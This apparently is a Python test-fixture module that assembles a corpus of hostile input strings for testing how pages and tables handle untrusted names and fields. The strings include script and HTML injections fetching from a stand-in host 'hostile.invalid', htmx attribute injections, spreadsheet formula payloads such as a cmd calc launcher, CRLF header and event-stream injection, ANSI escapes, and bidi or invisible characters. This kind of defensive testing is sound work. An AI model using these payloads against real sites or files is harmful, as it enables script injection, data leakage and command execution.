"""Texts that someone could write into a name, an argument or a reason, so that a page or a table acts on them."""

from itertools import product
from typing import Final

# In every text, so that where it ends up can be found. No text of ours has it.
MARK: Final = "zq9x"
# What runs or fetches names this host, which is nowhere.
HOST: Final = "hostile.invalid"
_WAYS_OUT = (
    "", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</bdi></td>", "</code></pre>",
)  # fmt: skip
_MARKUP = (
    f"<script src=//{HOST}/{MARK}></script>", f"<img src=//{HOST}/{MARK} onerror=document.title='{MARK}'>",
    f"<svg/onload=fetch('//{HOST}/{MARK}')>", f"<iframe srcdoc='<b>{MARK}'>", f"<a href=javascript:{MARK}()>x</a>",
    f"<form action=//{HOST}/{MARK}><input name=form_token>", f"<meta http-equiv=refresh content=0;url=//{HOST}/{MARK}>",
    f"<link rel=stylesheet href=//{HOST}/{MARK}>", f"<base href=//{HOST}/{MARK}>", f"<style>@import'//{HOST}/{MARK}'",
    f"<template><tr data-key={MARK}></tr></template>",
)  # fmt: skip
_ATTRIBUTES = (
    f'x" hx-get="//{HOST}/{MARK}" hx-trigger="load', f"x' hx-post='//{HOST}/{MARK}' hx-trigger='load'",
    f'x" hx-on:load="{MARK}()', f'x" data-hx-get="//{HOST}/{MARK}" data-hx-trigger="load', f'x" hx-vals="js:{MARK}()',
    f'x" hx-ext="{MARK}', f'x" onmouseover="{MARK}()', f"x' onfocus='{MARK}()' autofocus='", f'x" style="{MARK}',
    f'x" data-live="//{HOST}/{MARK}', f'x" formaction="//{HOST}/{MARK}', f"x` onclick=`{MARK}()`", f"x onload={MARK}()",
)  # fmt: skip
_BIDI = [f"safe{chr(code)}{MARK}" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)]
_INVISIBLE = [f"safe{chr(code)}{MARK}" for code in (0x200B, 0x200D, 0x2060, 0xFEFF, 0xAD, 0x3164, 0xFE0F, 0xE0041)]
_ANSI = [
    f"\x1b{rest}{MARK}" for rest in ("[31m", "[2J", "[1A\x1b[2K", "]0;title\x07", "]8;;//x\x07", "c", "[?25l", "P1$r")
]
_FORMULAS = [
    f"{start}{rest}{MARK}"
    for start, rest in product(
        ("=", "+", "-", "@", "\t=", "\r=", "\uff1d", "\uff0b", "\uff0d", "\uff20"),
        ("cmd|' /C calc'!A1", f'HYPERLINK("//{HOST}")', "1+1"),
    )
]
_LINES = [
    f"x\n\nevent: row\ndata: <img src=//{HOST}/{MARK}>\n\n", f"x\r\n\r\nevent: end\r\ndata: {MARK}", f"x\u2028{MARK}",
    f"x\u0085{MARK}", f"x\x0b{MARK}", f'x","kind":"{MARK}', f"x\r\nset-cookie: {MARK}=1",
]  # fmt: skip
_TEMPLATES = [
    f"{{{{7*7}}}}{MARK}", f"{{% raw %}}{MARK}", f"{{# {MARK}", f"${{{MARK}}}", f"%(x)s{MARK}", f"&lt;b&gt;{MARK}",
    f"&#60;b&#62;{MARK}", f"\\u003cb\\u003e{MARK}", f"%3Cb%3E{MARK}", f"\uff1cb\uff1e{MARK}",
]  # fmt: skip
HOSTILE_TEXTS: Final = tuple(
    dict.fromkeys(
        [f"{out}{markup}" for out, markup in product(_WAYS_OUT, _MARKUP)]
        + [*_ATTRIBUTES, *_BIDI, *_INVISIBLE, *_ANSI, *_FORMULAS, *_LINES, *_TEMPLATES]
    )
)
